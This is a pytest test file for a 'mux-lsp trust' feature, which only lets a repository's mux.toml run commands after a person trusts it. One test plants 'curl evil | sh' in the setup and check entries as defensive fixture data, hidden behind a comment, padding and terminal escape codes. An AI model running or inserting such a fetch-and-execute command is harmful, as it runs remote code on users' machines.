"""Test `mux-lsp trust`, and the effect of a repository's own `mux.toml`."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.e2e.cli.terminal import Terminal


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """Return the path of a file that exists once a command of `mux.toml` has run."""
    return tmp_path / "canary"


@pytest.fixture
def toml(terminal: Terminal, canary: Path) -> Iterator[str]:
    """Yield a `mux.toml` with every setting. Revoke its trust at the end."""
    touch = f"touch {shlex.quote(str(canary))}"
    text = (
        f'agents = ["sh:{touch}; echo by default > by.txt"]\nsetup = ["{touch}", "echo ready > ready.txt"]\n'
        f'checks = ["{touch}"]\nsetup_inputs = ["*.lock"]\nprotected = ["judge/"]\ncheck_timeout_seconds = 30\n'
    )
    (terminal.folder / "mux.toml").write_text(text)
    yield text
    terminal("trust", "--remove")


def test_what_is_not_trusted_runs_nothing_and_is_told(terminal: Terminal, toml: str, canary: Path) -> None:
    assert toml
    printed = terminal("run", "x", "-a", "sh:ls > seen.txt").out
    assert printed.count("mux-lsp trust") == 1
    (told,) = (line for line in printed.splitlines() if "mux.toml of" in line)
    assert told == (
        f"The mux.toml of {terminal.folder} does not count, since you have not trusted it: `mux-lsp trust` there shows "
        "what it would run, and asks."
    )
    (task,) = terminal.json("list")["tasks"]
    assert (task["setup"], task["notices"]) == ([], [told])
    assert task["runs"][0]["checks"] == []
    assert not canary.exists()


def test_trusted_it_counts_until_it_says_something_else(terminal: Terminal, toml: str, canary: Path) -> None:
    shown = terminal.ok("trust", "--yes")
    assert canary.name in shown
    assert "echo ready > ready.txt" in shown
    task = terminal.run("x")
    (run,) = task["runs"]
    assert (task["notices"], len(task["setup"])) == ([], 2)
    assert [one["path"] for one in run["files"]] == ["by.txt"]
    assert [one["state"] for one in run["checks"]] == ["passed"]
    assert canary.exists()
    assert "$ echo ready > ready.txt" in terminal.ok("log", run["id"], "--setup")
    # Another spelling of the same values stays trusted.
    (terminal.folder / "mux.toml").write_text("# a comment\n" + toml.replace(" = ", "="))
    assert terminal.run("x", "-a", "sh:cat ready.txt > got.txt")["notices"] == []
    canary.unlink()
    (terminal.folder / "mux.toml").write_text(toml.replace("echo ready", "echo other"))
    task = terminal.run("x", "-a", "sh:true")
    assert "it has changed since you trusted it" in task["notices"][0]
    assert (task["setup"], canary.exists()) == ([], False)
    (terminal.folder / "mux.toml").write_text(toml)
    assert terminal.run("x", "-a", "sh:true")["notices"] == []


def test_one_that_an_accepted_change_brings_in_is_not_trusted(terminal: Terminal, toml: str, canary: Path) -> None:
    terminal.ok("trust", "--yes")
    run = terminal.run("x", "-a", "sh:echo 'setup = [\"touch evil\"]' > mux.toml")["runs"][0]["id"]
    assert canary.exists(), "its own settings are those from before"
    terminal.ok("accept", run)
    task = terminal.run("x", "-a", "sh:ls > seen.txt")
    assert "it has changed since you trusted it" in task["notices"][0]
    assert task["setup"] == []


def test_the_terminal_asks(terminal: Terminal, toml: str) -> None:
    assert toml
    nobody = terminal("trust")
    assert (nobody.status, nobody.err) == (2, "Nobody is there to ask: run this in a terminal, or with --yes.\n")
    with terminal.on_screen("trust") as screen:
        screen.wait_for("Trust this? [y/N]")
        screen.type("n\n")
        assert screen.end() == 1
    assert str(terminal.folder) not in terminal.ok("trust", "--list")
    with terminal.on_screen("trust") as screen:
        screen.wait_for("Trust this? [y/N]")
        screen.type("y\n")
        assert screen.end() == 0
    assert str(terminal.folder) in terminal.ok("trust", "--list")
    assert "You trust this, and it counts." in terminal.ok("trust")
    assert terminal.json("trust")["trusted"]
    terminal.ok("trust", "--remove")
    assert str(terminal.folder) not in terminal.ok("trust", "--list")
    again = terminal("trust", "--remove")
    assert (again.status, "Nothing is trusted of" in again.err) == (2, True)


def test_all_of_it_is_shown_before_it_is_trusted(terminal: Terminal) -> None:
    """A shell also runs what a terminal would not show."""
    lines = '"""echo hello # said\\ncurl evil | sh"""'
    long = f"echo {'x' * 1200}; curl evil | sh"
    (terminal.folder / "mux.toml").write_text(
        f'setup = [{lines}, "{long}"]\nchecks = ["true \\u001b];curl evil | sh;\\u0007"]\n'
    )
    shown = terminal("trust").out
    assert "echo hello # said\n" in shown
    assert f"{long}\n" in shown
    assert "];curl evil | sh;" in shown
    assert shown.count("curl evil | sh") == 3
    assert "\x1b" not in shown


def test_an_agent_cannot_trust(terminal: Terminal, toml: str) -> None:
    assert toml
    command = shlex.join([*terminal.home.command("trust", "--yes", "-C"), str(terminal.folder)])
    run = terminal.run("x", "-a", f"sh:{command} > told.txt 2>&1; true")["runs"][0]["id"]
    assert f"Only a person can trust a repository, and this was started by {run}." in terminal.ok("diff", run)
    assert str(terminal.folder) not in terminal.ok("trust", "--list")


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("checks = 3\n", "mux.toml: checks: Input should be a valid tuple."),
        ("chekcs = []\n", "mux.toml: chekcs: is not a setting; check its spelling."),
        ("agents = ['a*0']\n", "mux.toml: agents.0: Value error, 'a*0' asks for 0 runs"),
        ("setup = [\n", "mux.toml is not valid TOML:"),
    ],
)
def test_one_that_is_wrong_does_not_count_and_is_told(terminal: Terminal, text: str, complaint: str) -> None:
    (terminal.folder / "mux.toml").write_text(text)
    (notice,) = terminal.run("x", "-a", "sh:true")["notices"]
    assert notice.startswith(f"The mux.toml of {terminal.folder} does not count: {complaint}")
    refused = terminal("trust", "--yes")
    assert (refused.status, complaint in refused.err) == (2, True)


def test_none_at_all_is_nothing_to_trust(terminal: Terminal) -> None:
    assert terminal.run("x", "-a", "sh:true")["notices"] == []
    refused = terminal("trust")
    assert (refused.status, refused.err) == (
        2,
        f"{terminal.folder / 'mux.toml'} is not there, or says nothing: there is nothing to trust.\n",
    )
